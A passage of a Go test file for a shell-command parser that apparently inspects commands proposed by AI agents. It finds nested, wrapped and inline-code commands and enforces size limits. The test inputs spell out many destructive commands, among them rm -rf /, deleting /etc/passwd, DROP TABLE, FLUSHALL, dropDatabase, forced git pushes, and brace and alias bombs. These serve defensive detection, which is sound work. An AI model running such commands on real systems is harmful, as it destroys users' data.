		t.Errorf("commit with heredoc message: %q", lines(s))
	}
	s = Parse(agentCommands[len(agentCommands)-1], Options{})
	if find(s, "rm -f $tmp") == nil {
		t.Errorf("trap body must be listed: %q", lines(s))
	}
}

var payloadCases = []struct {
	in, lang, from, text string
}{
	{`psql -c 'DROP TABLE t'`, "sql", "flag", "DROP TABLE t"},
	{`psql -d db --command="DROP TABLE t"`, "sql", "flag", "DROP TABLE t"},
	{`psql -h h -U u db -c "DROP TABLE t"`, "sql", "flag", "DROP TABLE t"},
	{`psql -f q.sql`, "sql", "file", "DROP TABLE users;"},
	{"psql db <<EOF\nDROP TABLE t;\nEOF", "sql", "heredoc", "DROP TABLE t;\n"},
	{`psql db <<< 'DROP TABLE t'`, "sql", "herestring", "DROP TABLE t\n"},
	{`echo 'DROP TABLE t' | psql db`, "sql", "pipe", "DROP TABLE t\n"},
	{`printf 'DROP TABLE t;' | psql`, "sql", "pipe", "DROP TABLE t;"},
	{"cat <<'SQL' | psql\nDROP TABLE t;\nSQL", "sql", "pipe", "DROP TABLE t;\n"},
	{`mysql -e 'DROP TABLE t'`, "sql", "flag", "DROP TABLE t"},
	{`mysql -uroot -pPW db -e "DROP TABLE t"`, "sql", "flag", "DROP TABLE t"},
	{`mariadb --execute='DROP TABLE t'`, "sql", "flag", "DROP TABLE t"},
	{`echo 'DROP TABLE t' | mysql db`, "sql", "pipe", "DROP TABLE t\n"},
	{`sqlite3 app.db 'DROP TABLE t'`, "sql", "arg", "DROP TABLE t"},
	{`sqlite3 -cmd 'DROP TABLE t' app.db`, "sql", "flag", "DROP TABLE t"},
	{`sqlite3 app.db <<< 'DROP TABLE t'`, "sql", "herestring", "DROP TABLE t\n"},
	{`duckdb x.db 'DROP TABLE t'`, "sql", "arg", "DROP TABLE t"},
	{`clickhouse-client -q 'DROP TABLE t'`, "sql", "flag", "DROP TABLE t"},
	{`clickhouse-client --query="DROP TABLE t"`, "sql", "flag", "DROP TABLE t"},
	{`redis-cli -h h -n 1 FLUSHALL`, "redis", "arg", "FLUSHALL"},
	{`echo FLUSHDB | redis-cli`, "redis", "pipe", "FLUSHDB\n"},
	{`mongosh db --eval 'db.dropDatabase()'`, "mongo", "flag", "db.dropDatabase()"},
	{`echo 'db.x.drop()' | mongo`, "mongo", "pipe", "db.x.drop()\n"},
	{`python3 -c 'print(1)'`, "python", "flag", "print(1)"},
	{`python3.12 -u -c 'print(1)'`, "python", "flag", "print(1)"},
	{"python3 - <<'EOF'\nprint(1)\nEOF", "python", "heredoc", "print(1)\n"},
	{"python <<EOF\nprint(1)\nEOF", "python", "heredoc", "print(1)\n"},
	{`echo 'print(1)' | python3`, "python", "pipe", "print(1)\n"},
	{`node -e 'console.log(1)'`, "node", "flag", "console.log(1)"},
	{`node --print '1+1'`, "node", "flag", "1+1"},
	{`perl -e 'print 1'`, "perl", "flag", "print 1"},
	{`perl -lne 'print' f`, "perl", "flag", "print"},
	{`ruby -e 'puts 1'`, "ruby", "flag", "puts 1"},
	{`php -r 'echo 1;'`, "php", "flag", "echo 1;"},
	{`deno eval 'console.log(1)'`, "node", "arg", "console.log(1)"},
	{`bun -e 'console.log(1)'`, "node", "flag", "console.log(1)"},
}

func TestPayloads(t *testing.T) {
	files := map[string]string{"q.sql": "DROP TABLE users;"}
	read := func(p string) ([]byte, error) {
		if s, ok := files[p]; ok {
			return []byte(s), nil
		}
		return nil, errNotFound
	}
	cases := payloadCases
	for _, tc := range cases {
		s := Parse(tc.in, Options{ReadFile: read})
		var got []Payload
		for _, c := range s.Commands {
			got = append(got, c.Payloads...)
		}
		ok := false
		for _, p := range got {
			if p.Lang == tc.lang && p.From == tc.from && p.Text == tc.text {
				ok = true
				if tc.from != "file" && (p.Span.Start < 0 || p.Span.End > len(tc.in) || p.Span.Start >= p.Span.End) {
					t.Errorf("%q: bad payload span %v", tc.in, p.Span)
				}
			}
		}
		if !ok {
			t.Errorf("%q: want %s payload from %s %q, got %+v", tc.in, tc.lang, tc.from, tc.text, got)
		}
	}
	// A password glued to -p is not more options.
	s0 := Parse(`mysql -psecret db -e "SELECT 1"`, Options{})
	if got := s0.Commands[0].Payloads; len(got) != 1 || got[0].Text != "SELECT 1" {
		t.Errorf("mysql -pSECRET: payloads %+v", got)
	}
	// Without ReadFile, -f files are not read.
	s := Parse(`psql -f q.sql`, Options{})
	if len(s.Commands[0].Payloads) != 0 {
		t.Errorf("read a file without ReadFile: %+v", s.Commands[0].Payloads)
	}
	// Script files are not inline code.
	for _, in := range []string{`python3 script.py`, `python -m http.server`, `node app.js`, `perl x.pl`, `psql -l`} {
		s := Parse(in, Options{})
		for _, c := range s.Commands {
			if len(c.Payloads) > 0 && in != `psql -l` {
				t.Errorf("%q: unexpected payload %+v", in, c.Payloads)
			}
		}
	}
}

var inlineCases = []struct {
	in, want, wrapper string
}{
	{`python3 -c 'import os; os.system("rm -rf /")'`, "rm -rf /", "python -c"},
	{`python -c "import subprocess; subprocess.run(['rm', '-rf', '/'])"`, "rm -rf /", "python -c"},
	{`python -c "import subprocess; subprocess.run('rm -rf /', shell=True)"`, "rm -rf /", "python -c"},
	{`python -c 'import subprocess as s; subprocess.check_output(["git","push","--force"])'`, "git push --force", "python -c"},
	{`python3 -c 'import os; os.popen("rm -rf /").read()'`, "rm -rf /", "python -c"},
	{`python3 -c 'import shutil; shutil.rmtree("/data")'`, "rm -rf /data", "python -c"},
	{`python3 -c 'import os; os.remove("/etc/passwd")'`, "rm -f /etc/passwd", "python -c"},
	{`python3 -c 'import os; os.unlink(p)'`, "rm -f $p", "python -c"},
	{"python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/srv')\nEOF", "rm -rf /srv", "python -c"},
	{`python3 -c 'import os; os.system(f"rm -rf {d}")'`, "rm -rf $CODE", "python -c"},
	{`node -e 'require("child_process").execSync("rm -rf /")'`, "rm -rf /", "node -e"},
	{`node -e 'const cp = require("child_process"); cp.spawnSync("rm", ["-rf", "/"])'`, "rm -rf /", "node -e"},
	{"node -e 'const {exec} = require(\"child_process\"); exec(`rm -rf ${d}`)'", "rm -rf $CODE", "node -e"},
	{`node -e 'require("fs").rmSync("/data", {recursive: true})'`, "rm -rf /data", "node -e"},
	{`node -e 'const fs=require("fs"); fs.unlinkSync("/x")'`, "rm -f /x", "node -e"},
	{`perl -e 'system("rm -rf /")'`, "rm -rf /", "perl -e"},
	{`perl -e 'system "rm", "-rf", "/"'`, "rm -rf /", "perl -e"},
	{"perl -e 'my $x = `rm -rf /`'", "rm -rf /", "perl -e"},
	{`perl -e 'qx{rm -rf /}'`, "rm -rf /", "perl -e"},
	{`perl -MFile::Path -e 'rmtree("/data")'`, "rm -rf /data", "perl -e"},
	{`perl -e 'unlink "/x"'`, "rm -f /x", "perl -e"},
	{`ruby -e 'system("rm -rf /")'`, "rm -rf /", "ruby -e"},
	{"ruby -e 'puts `rm -rf /`'", "rm -rf /", "ruby -e"},
	{`ruby -e '%x{rm -rf /}'`, "rm -rf /", "ruby -e"},
	{`ruby -rfileutils -e 'FileUtils.rm_rf("/data")'`, "rm -rf /data", "ruby -e"},
	{`ruby -e 'File.delete("/x")'`, "rm -f /x", "ruby -e"},
	{`php -r 'system("rm -rf /");'`, "rm -rf /", "php -r"},
	{`php -r 'echo shell_exec("rm -rf /");'`, "rm -rf /", "php -r"},
	{"php -r 'echo `rm -rf /`;'", "rm -rf /", "php -r"},
	{`php -r 'unlink("/x");'`, "rm -f /x", "php -r"},
	{`sudo python3 -c 'import os; os.system("bash -c \"rm -rf /\"")'`, "rm -rf /", "python -c"},
}

func TestInlineCodeCommands(t *testing.T) {
	cases := inlineCases
	for _, tc := range cases {
		s := Parse(tc.in, Options{})
		c := find(s, tc.want)
		if c == nil {
			t.Errorf("%q: no %q in %q (problems %+v)", tc.in, tc.want, lines(s), s.Problems)
			continue
		}
		if c.Context&InCode == 0 || !slices.Contains(c.Wrappers, tc.wrapper) {
			t.Errorf("%q: context %b wrappers %q", tc.in, c.Context, c.Wrappers)
		}
	}
	// Mentions in code are not calls.
	for _, in := range []string{
		`python3 -c 'print("os.system(\"rm -rf /\")" if False else 1)'`,
		`node -e 'const re=/x/; re.exec("rm -rf /")'`,
		`python3 -c 'mysystem("rm -rf /")'`,
	} {
		s := Parse(in, Options{})
		if in != `python3 -c 'print("os.system(\"rm -rf /\")" if False else 1)'` && find(s, "rm -rf /") != nil {
			t.Errorf("%q: must not yield rm: %q", in, lines(s))
		}
	}
}

func TestSpans(t *testing.T) {
	cases := []struct{ in, cmd, text string }{
		{`ls; rm -rf /`, "rm -rf /", "rm -rf /"},
		{`bash -c 'rm -rf /'`, "rm -rf /", "rm -rf /"},
		{`eval "rm -rf /"`, "rm -rf /", "rm -rf /"},
		{`sudo sh -c 'cd /; bash -c "rm x"'`, "rm x", "rm x"},
		{"cat <<'EOF' | bash\nls\nrm y\nEOF", "rm y", "rm y"},
		{`trap 'rm z' EXIT`, "rm z", "rm z"},
		{`echo $(rm w)`, "rm w", "rm w"},
		// Not a plain literal: the span is the enclosing word.
		{`bash -c "rm $'x'"`, "rm x", `"rm $'x'"`},
		{`bash -c "rm \"x\""`, "rm x", `"rm \"x\""`},
		{`eval rm -rf /`, "rm -rf /", "rm -rf /"},
		// Claude Code's quoting of a single quote inside eval '...'.
		{`eval 'git commit -m '\''it works'\'' && rm -rf /tmp/x' < /dev/null`, "rm -rf /tmp/x", "rm -rf /tmp/x"},
		{`eval 'echo '\''a'\''; bash -c '\''rm q'\'''`, "rm q", "rm q"},
		{`bash -c "rm "\"x\"`, "rm x", `rm "\"x\"`},
	}
	for _, tc := range cases {
		s := Parse(tc.in, Options{})
		c := find(s, tc.cmd)
		if c == nil {
			t.Errorf("%q: no %q in %q", tc.in, tc.cmd, lines(s))
			continue
		}
		if c.Span.Start < 0 || c.Span.End > len(tc.in) || c.Span.Start > c.Span.End {
			t.Errorf("%q: span %v out of range", tc.in, c.Span)
			continue
		}
		if got := tc.in[c.Span.Start:c.Span.End]; got != tc.text {
			t.Errorf("%q: span %v is %q, want %q", tc.in, c.Span, got, tc.text)
		}
	}
	s := Parse(`ls -l /tmp`, Options{})
	if a := s.Commands[0].Args[1]; a.Span != (Span{6, 10}) {
		t.Errorf("arg span %v", a.Span)
	}
	s = Parse(`psql -c 'DROP TABLE t'`, Options{})
	if p := s.Commands[0].Payloads[0]; `psql -c 'DROP TABLE t'`[p.Span.Start:p.Span.End] != "DROP TABLE t" {
		t.Errorf("payload span %v", p.Span)
	}
}

func TestLimits(t *testing.T) {
	// 20 levels of eval, each reparsing the next.
	deep := strings.Repeat("eval ", 20) + "rm -rf /"
	s := Parse(deep, Options{})
	if !slices.Contains(kinds(s), "nesting_too_deep") || find(s, "rm -rf /") != nil {
		t.Errorf("20 levels of eval: want nesting_too_deep, got %+v %q", s.Problems, lines(s))
	}
	s = Parse(deep, Options{Limits: Limits{MaxDepth: 30}})
	if len(s.Problems) > 0 || find(s, "rm -rf /") == nil {
		t.Errorf("20 levels under a limit of 30: %+v %q", s.Problems, lines(s))
	}
	// bash -c "bash -c \"...\"": quoting doubles at each level, so 20
	// levels against a limit of 16 and 10 against a limit of 8.
	cmd := "rm -rf /"
	for i := range 20 {
		cmd = "bash -c " + dquote(cmd)
		if i == 9 {
			s = Parse(cmd, Options{Limits: Limits{MaxDepth: 8}})
			if !slices.Contains(kinds(s), "nesting_too_deep") {
				t.Errorf("10 levels of bash -c: %+v", s.Problems)
			}
			s = Parse(cmd, Options{})
			if c := find(s, "rm -rf /"); c == nil || c.Depth != 10 || len(s.Problems) > 0 {
				t.Errorf("10 levels of bash -c: %+v %q", s.Problems, lines(s))
			}
		}
	}
	s = Parse(cmd, Options{})
	if !slices.Contains(kinds(s), "nesting_too_deep") && !slices.Contains(kinds(s), "input_too_large") {
		t.Errorf("20 levels of bash -c: %+v", s.Problems)
	}
	big := strings.Repeat("echo hello world\n", 2<<20/17+1)
	s = Parse(big, Options{})
	if !slices.Contains(kinds(s), "input_too_large") || len(s.Commands) != 0 {
		t.Errorf("2 MiB: want input_too_large and nothing parsed, got %+v", s.Problems)
	}
	s = Parse("echo hi", Options{Limits: Limits{MaxBytes: 3}})
	if !slices.Contains(kinds(s), "input_too_large") {
		t.Errorf("MaxBytes not honoured: %+v", s.Problems)
	}
	s = Parse(`echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}`, Options{})
	if !slices.Contains(kinds(s), "input_too_large") {
		t.Errorf("brace bomb: %+v", s.Problems)
	}
	s = Parse(`alias a='b;b;b;b'; alias b='c;c;c;c'; alias c='d;d;d;d'; alias d='e;e;e;e'; alias e='f;f;f;f'; alias f='g;g;g;g'; alias g='h;h;h;h'; alias h='i;i;i;i'; a`, Options{})
	if len(s.Commands) > maxCommands+10 {
		t.Errorf("alias bomb listed %d commands", len(s.Commands))
	}
	s = Parse(strings.Repeat("for a in 1 2 3 4 5 6 7 8; do ", 8)+"x=1"+strings.Repeat("; done", 8), Options{})
	if !slices.Contains(kinds(s), "input_too_large") {
		t.Errorf("loop bomb without commands: %+v", s.Problems)
	}
	s = Parse(strings.Repeat("$a\n", 10000), Options{})
	if len(s.Problems) != 10000 {
		t.Errorf("one problem per dynamic command: %d", len(s.Problems))
	}
	loops := "for a in 1 2 3 4 5 6 7 8; do for b in 1 2 3 4 5 6 7 8; do for c in 1 2 3 4 5 6 7 8; do for d in 1 2 3 4 5 6 7 8; do for e in 1 2 3 4 5 6 7 8; do rm $a$b$c$d$e; done; done; done; done; done"
	s = Parse(loops, Options{})
	if !slices.Contains(kinds(s), "input_too_large") || len(s.Commands) > maxCommands {
		t.Errorf("loop bomb: %d commands, %+v", len(s.Commands), s.Problems)
	}
}

// dquote double-quotes s for bash.
func dquote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, `$`, `\$`, "`", "\\`")
	return `"` + r.Replace(s) + `"`
}

func TestParseArgv(t *testing.T) {
	cases := []struct {
		argv []string
		want string
		wrap []string
	}{
		{[]string{"rm", "-rf", "/"}, "rm -rf /", nil},
		{[]string{"/usr/bin/sudo", "rm", "-rf", "/"}, "rm -rf /", []string{"sudo"}},
		{[]string{"bash", "-c", "git push --force"}, "git push --force", []string{"bash -c"}},
		{[]string{"xargs", "-0", "rm", "-f"}, "rm -f", []string{"xargs"}},
		{[]string{"git", "commit", "-m", "rm -rf / ; x"}, "git commit -m rm -rf / ; x", nil},
	}
	for _, tc := range cases {
		s := ParseArgv(tc.argv, Options{})
		c := find(s, tc.want)
		if c == nil || !slices.Equal(c.Wrappers, tc.wrap) || len(s.Problems) > 0 {
			t.Errorf("%q: got %q %+v, want %q via %q", tc.argv, lines(s), s.Problems, tc.want, tc.wrap)
		}
	}
	s := ParseArgv([]string{"git", "commit", "-m", "$(rm -rf /)"}, Options{})
	if len(s.Commands) != 1 || find(s, "rm -rf /") != nil {
		t.Errorf("argv words are not shell text: %q", lines(s))
	}
	s = ParseArgv([]string{"rm", "-rf", "/"}, Options{})
	if sp := s.Commands[0].Args[1].Span; sp != (Span{7, 8}) {
		t.Errorf("argv span %v", sp)
	}
}

func TestCommandString(t *testing.T) {
	s := Parse(`sudo bash -c 'rm -rf "/my dir"'`, Options{})
	if got := s.Commands[0].String(); got != `rm -rf '/my dir'  (via sudo, bash -c)` {
		t.Errorf("got %q", got)
	}
	s = Parse(`/bin/rm -rf $HOME`, Options{})
	if got := s.Commands[0].String(); got != `/bin/rm -rf $HOME` {
		t.Errorf("got %q", got)
	}
}

func TestNeverNil(t *testing.T) {
	for _, in := range []string{"", " ", "\n", ";", "#", "\x00", "((", "'"} {
		if Parse(in, Options{}) == nil {
			t.Errorf("%q: nil script", in)
		}
	}
	if ParseArgv(nil, Options{}) == nil {
		t.Errorf("nil argv: nil script")
	}
}

// TestVariableExpansionIsBounded checks that values that double at each
// assignment stop at a limit and hold, instead of growing without end.
func TestVariableExpansionIsBounded(t *testing.T) {
	for _, in := range []string{
		"x=a; " + strings.Repeat("x=$x$x; ", 40) + "echo $x",
		"x=rm; " + strings.Repeat(`x="$x $x"; `, 40) + "$x",
		"x=ab; " + strings.Repeat("x=${x}${x}${x}; ", 30) + `echo "$x"`,
	} {
		if s := Parse(in, Options{}); !slices.Contains(kinds(s), "input_too_large") {
			t.Errorf("%.40q...: want input_too_large, got %+v", in, s.Problems)
		}
	}
	small := "x=ab; " + strings.Repeat("x=$x$x; ", 10) + "echo $x"
	if s := Parse(small, Options{}); len(s.Problems) > 0 || len(s.Commands) != 1 || len(s.Commands[0].Args[0].Value) != 2<<10 {
		t.Errorf("10 doublings: %+v", s.Problems)
	}
}
